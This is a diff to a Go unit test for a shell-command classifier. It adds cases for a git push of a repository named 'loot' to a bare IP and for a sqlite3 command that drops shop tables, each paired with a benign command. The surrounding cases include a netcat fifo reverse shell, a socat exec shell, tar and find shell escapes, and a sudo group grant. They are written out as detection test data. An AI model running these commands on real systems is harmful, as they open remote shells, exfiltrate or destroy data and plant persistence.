@@ -30,6 +30,10 @@ func TestClassify(t *testing.T) {
 		{"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", classChannel},
 		{"socat tcp:10.0.0.1:4444 exec:sh", classChannel},
 		{"crontab -", classPersistence},
+		{"git push git://127.0.0.1:9418/loot.git master", classExfilImpact}, // a repository pushed to another host: data out
+		{"git push -q origin main", classNone},                              // a named remote: the site's own deploy
+		{"sqlite3 /var/www/html/data/shop.db 'DROP TABLE orders; DROP TABLE customers;'", classExfilImpact},
+		{"sqlite3 /var/www/html/data/shop.db 'SELECT count(*) FROM orders'", classNone},
 		{"chmod 755 /etc/update-motd.d/60-sysinfo", classPersistence}, // made runnable where logins run it
 		{"chmod +x /etc/cron.daily/zz", classPersistence},
 		{"chmod 644 /etc/update-motd.d/60-sysinfo", classNone}, // made unrunnable: nothing installed
@@ -39,7 +43,7 @@ func TestClassify(t *testing.T) {
 		{"userdel -r carol", classExfilImpact},
 		{"usermod -aG sudo mallory", classPersistence}, // a way back in
 		{"chage -l alice", classNone},
-		{"usermod -l newname old", classPersistence}, // a rename, not a lock
+		{"usermod -l newname old", classPersistence},                                                                     // a rename, not a lock
 		{"/usr/bin/tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=sh /dev/shm/.r", classSuspicious}, // a shell escape, not staging
 		{"sudo find /var/www -name x -exec /bin/sh -p \\; -quit", classSuspicious},
 		{"tar czf /tmp/site.tgz /var/www/html", classExfilImpact},           // staging stays staging
